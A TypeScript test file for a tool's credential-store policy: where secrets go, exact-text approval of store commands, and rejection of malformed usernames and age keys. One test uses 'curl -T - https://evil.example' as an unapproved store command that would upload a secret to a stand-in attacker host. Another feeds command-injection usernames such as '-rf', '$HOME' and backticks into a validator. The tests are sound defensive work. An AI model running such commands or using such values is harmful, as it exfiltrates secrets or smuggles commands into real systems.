import { expect } from 'chai';
import { credentialStoreOf, storeWords } from '../../../src/core/model/credential-store.ts';
import { policySchema } from '../../../src/core/model/policy.ts';
import type { Policy } from '../../../src/core/model/policy.ts';
import { checkAgainstPolicy } from '../../../src/core/spec/against-policy.ts';
import { parsePolicy, parseSpec } from '../../../src/core/spec/parse.ts';
import { Problem } from '../../../src/problems.ts';
import { mistakesOf, specText } from '../../support/spec-text.ts';

const keys = ['age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p', 'age1lggyhqrw2nlhcxprm67z43rta597azn8gknawjehu9d9dl0jq3yqqvfafg'] as const;
const put = 'op document create - --title {name} --vault Integrations';
const policyWith = (changes: object): Policy => policySchema.parse({ apiVersion: 'integration-user/v1', ...changes });

function storeOf(credentials: object, policy: object = {}, environment: object = {}, username = 'billing@example.com.uat'): ReturnType<typeof credentialStoreOf> {
  const { value } = parseSpec(specText({ credentials, environments: { uat: { username, ...environment } } }), 'x.yaml');
  return credentialStoreOf(value, { name: 'uat', environment: value.environments['uat']!, orgId: '00D000000000001AAA' }, policyWith(policy));
}
const violations = (spec: object, policy: object = {}): readonly (readonly string[])[] => {
  const { value, placeOf } = parseSpec(specText(spec), 'x.yaml');
  return checkAgainstPolicy(value, policyWith(policy), { placeOf }).map((each) => [each.key, ...each.tokens.slice(1)]);
};

describe('where a secret goes', () => {
  it('is a file of one’s own, where the spec says nothing', () => expect(storeOf({})).to.deep.equal({ kind: 'file' }));

  it('is a file encrypted to every custodian, whose keys the policy knows whatever the letter case', () => {
    const store = storeOf({ store: 'age' }, { custodianKeys: { 'Bo@example.com': keys[0] } });
    expect(store).to.deep.include({ kind: 'age' });
    expect(store.kind === 'age' && store.recipients[0]).to.deep.equal({ email: 'bo@example.com', key: keys[0] });
    expect(store.kind === 'age' && store.recipients.slice(1).every(({ key }) => key === undefined)).to.equal(true);
  });

  it('is a command, split and filled in, and approved only by its exact text', () => {
    const argv = ['op', 'document', 'create', '-', '--title', 'billing', '--vault', 'Integrations'];
    expect(storeOf({ store: put }, { approved: { stores: [put] } })).to.deep.equal({ kind: 'command', put: { written: put, argv, approved: true } });
    for (const stores of [['file', 'age'], ['op'], [`${put} --force`], [put.toUpperCase()]]) {
      expect(storeOf({ store: put }, { approved: { stores } })).to.have.nested.property('put.approved', false);
    }
  });

  it('names what reads it back, which needs an approval of its own', () => {
    const read = 'op document get {name}';
    const store = storeOf({ store: put, read }, { approved: { stores: [put] } });
    expect(store).to.have.nested.property('read.argv').that.deep.equals(['op', 'document', 'get', 'billing']);
    expect(store).to.have.nested.property('read.approved', false);
  });

  it('is another one in an environment that says so, and its way back with it', () => {
    const spec = { store: put, read: 'op document get {name}' };
    expect(storeOf(spec, {}, { credentials: { store: 'file' } })).to.deep.equal({ kind: 'file' });
    expect(storeOf(spec, {}, { credentials: { store: 'pass insert -m {environment}/{name}' } })).to.not.have.property('read');
    expect(storeOf(spec, {}, { credentials: { rotateEveryDays: 30 } }), 'what an environment does not say is as the spec has it').to.have.nested.property('put.written', put);
    expect(storeOf(spec, {}, { credentials: { read: 'op read x' } })).to.have.nested.property('read.written', 'op read x');
  });

  it('fills in values once, as parts of one argument each', () => {
    const store = storeOf({ store: 'kv put "a b/{environment}/{name}" key=- {orgId} {username}' });
    expect(store.kind === 'command' && store.put.argv).to.deep.equal(['kv', 'put', 'a b/uat/billing', 'key=-', '00D000000000001AAA', 'billing@example.com.uat']);
    expect(storeOf({ store: 'kv put {name}' }, {}, {}, '{name}@example.com'), 'a username that is not used').to.have.property('kind', 'command');
  });

  for (const username of ['-rf@example.com', '../other/x@example.com', 'a`b@example.com', '{name}@example.com', '$HOME@example.com', 'a|b@example.com']) {
    it(`lets no username ${username} into a command`, () => {
      expect(() => storeOf({ store: 'kv put secret/{username}' }, {}, {}, username)).to.throw(Problem).that.deep.includes({ key: 'store-value-odd', exit: 2 });
    });
  }

  it('is told with the exact command, every argument’s borders to be seen', () => {
    const store = storeOf({ store: "vault kv put 'secret/my app' key=-", read: 'vault kv get x' }, {});
    expect(storeWords(store)).to.equal("given on stdin to: vault kv put 'secret/my app' key=-, and read back with: vault kv get x");
    expect(storeWords(storeOf({ store: 'age' }))).to.match(/^encrypted with age to the keys of bo@example\.com, /);
  });
});

describe('a policy on where secrets go', () => {
  const withKeys = { custodianKeys: { 'bo@example.com': keys[0], 'chi@example.com': keys[1] } };

  it('approves file and age, and no command, where nothing is written', () => {
    expect(violations({})).to.deep.equal([]);
    expect(violations({ credentials: { store: put } })).to.deep.equal([['policy-not-approved', 'the place for secrets', `"${put}"`, 'Allowed here: file, age.']]);
  });

  it('approves each command by its exact text: of environments, and of reading back, too', () => {
    const read = 'op document get {name}';
    const spec = { credentials: { store: put, read }, environments: { uat: { username: 'u@example.com', credentials: { store: 'curl -T - https://evil.example' } } } };
    expect(violations(spec, { approved: { stores: [put, read] } }).map(([, , text]) => text)).to.deep.equal(['"curl -T - https://evil.example"']);
    expect(violations(spec, { approved: { stores: [put, 'curl -T - https://evil.example'] } }).map(([, , text]) => text)).to.deep.equal([`"${read}"`]);
  });

  it('wants a key of every custodian where something is encrypted, in any environment', () => {
    const missing = (spec: object): unknown => violations(spec, withKeys);
    expect(missing({ custodians: ['bo@example.com', 'Chi@example.com', 'dao@example.com'], credentials: { store: 'age' } })).to.deep.equal([['policy-custodian-key', 'dao@example.com']]);
    expect(missing({ environments: { uat: { username: 'u@example.com', credentials: { store: 'age' } } }, custodians: ['x@example.com', 'bo@example.com', 'chi@example.com'] })).to.deep.equal([['policy-custodian-key', 'x@example.com']]);
    expect(missing({ custodians: ['x@example.com', 'y@example.com', 'z@example.com'] })).to.deep.equal([]);
  });

  it('takes no age key with a wrong letter, of another kind, or a secret one', () => {
    const odd = [`${keys[0].slice(0, 20)}q${keys[0].slice(21)}`, 'age1yubikey1q2w7u3vpya839jxxuq8g0sedh3d740d4xvn639sqhr95ejj8vu3hyfumptt', 'AGE-SECRET-KEY-1QYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQ', keys[0].toUpperCase(), ''];
    for (const key of odd) {
      const said = mistakesOf(() => parsePolicy(`apiVersion: integration-user/v1\ncustodianKeys:\n  bo@example.com: "${key}"\n`, 'policy.yaml'));
      expect(said[0]?.[0], key).to.equal('file-wrong-value');
      expect(said[0]?.[1]).to.equal('policy.yaml:3:19');
    }
  });
});

describe('a spec’s command', () => {
  for (const [text, why] of [
    ['op "unclosed', /every quote closed/],
    ['./put-secret', /name of a program, or with its whole path/],
    ['../bin/put', /name of a program/],
    ['{name} x', /name of a program/],
    ['op {secret}', /nothing else in braces/],
  ] as const) {
    it(`is not ${text}`, () => {
      const [said] = mistakesOf(() => parseSpec(specText({ credentials: { store: text } }), 'x.yaml'));
      expect(said?.[0]).to.equal('file-wrong-value');
      expect(said?.join(' ')).to.match(why);
    });
  }

  it('reads back only what a command stored', () => {
    for (const credentials of [{ read: 'op read x' }, { store: 'age', read: 'op read x' }]) {
      const [said] = mistakesOf(() => parseSpec(specText({ credentials }), 'x.yaml'));
      expect(said?.[0]).to.equal('spec-read-without-command');
    }
    const environments = { uat: { username: 'u@example.com', credentials: { read: 'op read x' } } };
    expect(mistakesOf(() => parseSpec(specText({ environments }), 'x.yaml'))[0]?.[0]).to.equal('spec-read-without-command');
    parseSpec(specText({ environments, credentials: { store: 'op put' } }), 'x.yaml');
  });
});
